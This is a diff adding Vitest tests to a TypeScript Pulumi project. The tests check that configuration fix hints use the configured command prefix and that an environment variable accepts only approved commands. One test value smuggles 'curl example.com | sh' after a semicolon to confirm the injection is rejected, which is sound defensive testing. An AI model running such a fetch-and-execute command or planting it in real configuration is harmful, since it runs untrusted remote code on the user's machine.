@@ -1,7 +1,7 @@
 import { generateKeyPairSync } from "node:crypto";
 import * as pulumi from "@pulumi/pulumi";
 import { describe, expect, it, vi } from "vitest";
-import { parseConfig, type ConfigKey } from "../src/config";
+import { parseConfig, type ConfigKey, type RawConfig } from "../src/config";
 import { configKeys } from "../src/configParsers";
 import { makeApiKey, resources, runProgram } from "./mocks";
 import { compiledConfig, growth, growthFactor, linearGrowthBound } from "./support/growth";
@@ -618,6 +618,74 @@ describe("loadConfig", () => {
             expect(resources.length).toBeGreaterThan(0);
         } finally {
             warn.mockRestore();
+        }
+    });
+});
+
+describe("fixes as the command that ran pulumi can run them", () => {
+    const npmCommand = "npm run pulumi -- config";
+    // Problems of every kind, a parser's own hint, unknown keys, and warnings.
+    const raws: RawConfig[] = [
+        ...badCases.map((bad) => ({
+            stack: bad.stack ?? "sandbox",
+            values: bad.config,
+            secretKeys: new Set((bad.secretKeys ?? ["apiKey"]) as ConfigKey[]),
+            unknownKeys: ["keyversion", "colour"],
+        })),
+        { stack: "sandbox", values: { apiKey, kmsKeyId: "not a key" }, secretKeys: new Set<ConfigKey>(["apiKey"]) },
+        {
+            stack: "production",
+            values: {
+                apiKey,
+                recoveryWindowInDays: "0",
+                protect: "false",
+                apiBaseUrl: "https://qredo-proxy.example.com/api/v1/p",
+                readerArns: JSON.stringify(["arn:aws:iam::123456789012:root"]),
+            },
+            secretKeys: new Set<ConfigKey>(["apiKey"]),
+        },
+    ];
+    const lines = (result: ReturnType<typeof parseConfig>) => (result.ok ? result.warnings : result.problems);
+
+    it("starts every fix with npm run pulumi -- config when the scripts ask for it, and with pulumi config otherwise", () => {
+        let fixes = 0;
+        for (const raw of raws) {
+            const plain = lines(parseConfig(raw));
+            const viaNpm = lines(parseConfig({ ...raw, configCommand: npmCommand }));
+            expect(lines(parseConfig({ ...raw, configCommand: "pulumi config" }))).toEqual(plain);
+            // The same lines, each command started the npm way, and no bare pulumi config left.
+            expect(viaNpm).toEqual(plain.map((line) => line.replaceAll("pulumi config ", `${npmCommand} `)));
+            for (const line of viaNpm) {
+                expect(line.replaceAll(npmCommand, "")).not.toContain("pulumi config");
+                fixes += line.split(npmCommand).length - 1;
+            }
+        }
+        expect(fixes).toBeGreaterThan(raws.length);
+    });
+
+    it("reads PARTNER_KEYS_CONFIG_COMMAND, and takes no other command from it", async () => {
+        const config = { apiKey, keyVersion: "0", kmsKeyId: "not a key", colour: "blue" };
+        const message = async (value: string | undefined) => {
+            vi.stubEnv("PARTNER_KEYS_CONFIG_COMMAND", value);
+            try {
+                return await runProgram({ stack: "sandbox", config }).then(
+                    () => "",
+                    (e: unknown) => (e as Error).message,
+                );
+            } finally {
+                vi.unstubAllEnvs();
+            }
+        };
+        const viaNpm = await message(npmCommand);
+        expect(viaNpm).toContain('keyVersion: must be a whole number of 1 or more, got "0"');
+        expect(viaNpm).toContain(`Fix: ${npmCommand} set --stack sandbox keyVersion 1`);
+        expect(viaNpm).toContain(`run \`${npmCommand} rm --stack sandbox kmsKeyId\``);
+        expect(viaNpm).toContain(`Fix: ${npmCommand} rm --stack sandbox colour`);
+        expect(viaNpm.replaceAll(npmCommand, "")).not.toContain("pulumi config");
+        for (const other of [undefined, "", "npm run pulumi -- config; curl example.com | sh", "pulumi config"]) {
+            const plain = await message(other);
+            expect(plain).toBe(viaNpm.replaceAll(npmCommand, "pulumi config"));
+            expect(plain).not.toContain("curl");
         }
     });
 });
